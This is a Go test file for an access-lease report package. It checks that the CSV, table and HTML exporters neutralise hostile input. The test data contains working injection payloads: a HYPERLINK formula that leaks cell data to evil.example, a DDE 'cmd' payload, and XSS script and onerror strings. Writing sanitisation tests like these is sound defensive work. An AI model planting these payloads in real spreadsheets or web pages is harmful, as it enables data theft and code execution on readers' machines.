package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// hostile are reasons a requester could type to attack whoever reads the
// report.
var hostile = []string{
	`fix, then "verify"`,
	"line one\nline two\r\nline three",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,1)",
	"\t=1+1",
	"＝1+1",
	`<script>alert("x")</script>`,
	"\x1b[31mred\x1b[0m",
}

func hostileReport(t *testing.T) Report {
	t.Helper()
	f := newFixture(day0, day1, day1)
	for i, reason := range hostile {
		f.add(spec{id: "l" + string(rune('a'+i)), user: "ann", target: "pg", reason: reason,
			start: day0.Add(time.Duration(i) * time.Minute), dur: time.Hour, approvers: []string{"=bob", "cat"}})
	}
	return Build(f.in)
}

func TestWriteCSV(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	if got, want := rows[0], csvHeader; !reflect.DeepEqual(got, want) {
		t.Errorf("header = %v; want %v", got, want)
	}
	if got, want := len(rows), len(hostile)+1; got != want {
		t.Fatalf("got %d rows; want %d", got, want)
	}
	reason := slices.Index(csvHeader, "reason")
	approvers := slices.Index(csvHeader, "approvers")
	for i, in := range hostile {
		got := rows[i+1][reason]
		want := in
		if strings.ContainsAny(in[:1], "=+-@\t") || strings.HasPrefix(in, "＝") {
			want = "'" + in
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		want = strings.ReplaceAll(want, "\r\n", "\n")
		if got != want {
			t.Errorf("reason %d = %q; want %q", i, got, want)
		}
		if got, want := rows[i+1][approvers], "'=bob;cat"; got != want {
			t.Errorf("approvers %d = %q; want %q", i, got, want)
		}
	}
	// No cell may start with a formula character.
	for _, row := range rows[1:] {
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("cell %s = %q starts with a formula character", csvHeader[j], c)
			}
		}
	}
	first := rows[1]
	if got, want := first[slices.Index(csvHeader, "started_at")], "2025-03-01T00:00:00Z"; got != want {
		t.Errorf("started_at = %q; want %q", got, want)
	}
	if got, want := first[slices.Index(csvHeader, "duration_seconds")], "3600"; got != want {
		t.Errorf("duration_seconds = %q; want %q", got, want)
	}
}

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"=1", "'=1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"|x", "'|x"},
		{"＋1", "'＋1"},
		{"'=1", "'=1"},
	}
	for _, tt := range tests {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriteCSVLive(t *testing.T) {
	r := Build(newFixture(day0, day1, day1, spec{id: "live", user: "ann", target: "pg", start: day0}).in)
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][slices.Index(csvHeader, "ended_at")]; got != "" {
		t.Errorf("ended_at of a live lease = %q; want empty", got)
	}
}

func TestWriteJSON(t *testing.T) {
	f := newFixture(day0, day1, day1,
		spec{id: "done", user: "ann", target: "pg", reason: "r", start: day0, dur: time.Hour, approvers: []string{"bob"}},
		spec{id: "live", user: "ann", target: "pg", reason: "r", start: day0.Add(time.Hour), breakGlass: true})
	r := Build(f.in)
	var buf bytes.Buffer
	if err := r.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var got struct {
		From, To    time.Time
		GeneratedAt time.Time `json:"generated_at"`
		Leases      []map[string]any
		Totals      map[string]any
	}
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if !got.From.Equal(day0) || !got.To.Equal(day1) || !got.GeneratedAt.Equal(day1) {
		t.Errorf("from, to, generated_at = %v, %v, %v; want %v, %v, %v", got.From, got.To, got.GeneratedAt, day0, day1, day1)
	}
	keys := []string{"lease_id", "requester", "target", "grant", "reason", "approvers", "started_at", "ended_at",
		"end_reason", "duration_seconds", "break_glass", "review_required", "policy", "auto_approved", "revoke_attempts", "extensions", "sessions"}
	for _, l := range got.Leases {
		var have []string
		for k := range l {
			have = append(have, k)
		}
		slices.Sort(have)
		want := slices.Sorted(slices.Values(keys))
		if !reflect.DeepEqual(have, want) {
			t.Errorf("lease keys = %v; want %v", have, want)
		}
	}
	if v, ok := got.Leases[1]["ended_at"]; !ok || v != nil {
		t.Errorf("ended_at of a live lease = %v (present %v); want null", v, ok)
	}
	if got, want := got.Leases[0]["ended_at"], "2025-03-01T01:00:00Z"; got != want {
		t.Errorf("ended_at = %v; want %v", got, want)
	}
	if got, want := got.Leases[1]["approvers"], []any{}; !reflect.DeepEqual(got, want) {
		t.Errorf("approvers of an unapproved lease = %#v; want %#v", got, want)
	}
	for _, k := range []string{"leases_per_target", "leases", "median_duration_seconds", "auto_approved_share", "longest",
		"revocations_with_retries", "break_glass_unreviewed", "per_day", "duration_histogram"} {
		if _, ok := got.Totals[k]; !ok {
			t.Errorf("totals lack %q", k)
		}
	}

	// An empty report still has a list of leases, not null.
	buf.Reset()
	if err := Build(Input{From: day0, To: day1, Now: day1}).WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"leases": []`) {
		t.Errorf("empty report JSON lacks \"leases\": []:\n%s", buf.String())
	}
}

func TestWriteTable(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := r.WriteTable(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if strings.Contains(out, "\x1b") {
		t.Errorf("table passes an escape sequence through:\n%q", out)
	}
	// One line per lease plus the header, before the totals.
	table, _, _ := strings.Cut(out, "\n\n")
	if got, want := strings.Count(table, "\n"), len(hostile); got != want {
		t.Errorf("table has %d lines; want %d (header and one per lease):\n%s", got+1, want+1, table)
	}
	for _, want := range []string{"LEASE", "REQUESTER", "Leases: 10 (0 live)", "Median duration: 1h", "Per target: pg 10",
		"Window: from 2025-03-01 00:00 UTC to 2025-03-02 00:00 UTC"} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
}

func TestHumanDuration(t *testing.T) {
	tests := []struct {
		in   time.Duration
		want string
	}{
		{0, "0s"},
		{45 * time.Second, "45s"},
		{12 * time.Minute, "12m"},
		{time.Hour, "1h"},
		{90 * time.Minute, "1h30m"},
		{49 * time.Hour, "2d1h"},
		{72 * time.Hour, "3d"},
	}
	for _, tt := range tests {
		if got := humanDuration(tt.in); got != tt.want {
			t.Errorf("humanDuration(%v) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriteHTMLEscapes(t *testing.T) {
	f := newFixture(day0, day1, day1,
		spec{id: "x", user: `<img src=x onerror=alert(1)>`, target: `pg"><script>alert(2)</script>`,
			reason: `<script>alert("x")</script> & more`, start: day0, dur: time.Hour, breakGlass: true})
	f.in.Requests["req_x"].Approvers = []string{"<b>bob</b>"}
	r := Build(f.in)
	var buf bytes.Buffer
	if err := r.WriteHTML(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, bad := range []string{"<script", "<img", "<b>bob", `"><script`} {
		if strings.Contains(out, bad) {
			t.Errorf("HTML contains raw %q", bad)
		}
	}
	for _, want := range []string{"&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; more", "&lt;b&gt;bob&lt;/b&gt;"} {
		if !strings.Contains(out, want) {
			t.Errorf("HTML lacks escaped %q", want)
		}
	}
	// Self-contained: nothing is fetched.
	for _, bad := range []string{"http://", "https://", "<link", "<iframe", "@import", "url("} {
		if strings.Contains(out, bad) {
			t.Errorf("HTML refers to an external resource: contains %q", bad)
		}
	}
	for _, want := range []string{"Break-glass leases awaiting review (1)", `class="review"`, "<svg"} {
		if !strings.Contains(out, want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
}

func TestWriteHTMLEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := Build(Input{From: day0, To: day1, Now: day1}).WriteHTML(&buf); err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Count(buf.String(), "No leases in this window."), 4; got != want {
		t.Errorf("empty report says \"No leases\" %d times; want %d", got, want)
	}
}

func TestAxis(t *testing.T) {
	tests := []struct {
		most, top int
		ticks     int
	}{
		{0, 1, 2}, {1, 1, 2}, {3, 3, 4}, {5, 5, 6}, {6, 6, 4}, {9, 10, 6}, {11, 15, 4}, {47, 50, 6}, {120, 150, 4}, {999, 1000, 6},
	}
	for _, tt := range tests {
		top, ticks := axis(tt.most)
		if top != tt.top || len(ticks) != tt.ticks || ticks[len(ticks)-1] != top {
			t.Errorf("axis(%d) = %d, %v; want top %d with %d ticks", tt.most, top, ticks, tt.top, tt.ticks)
		}
	}
}
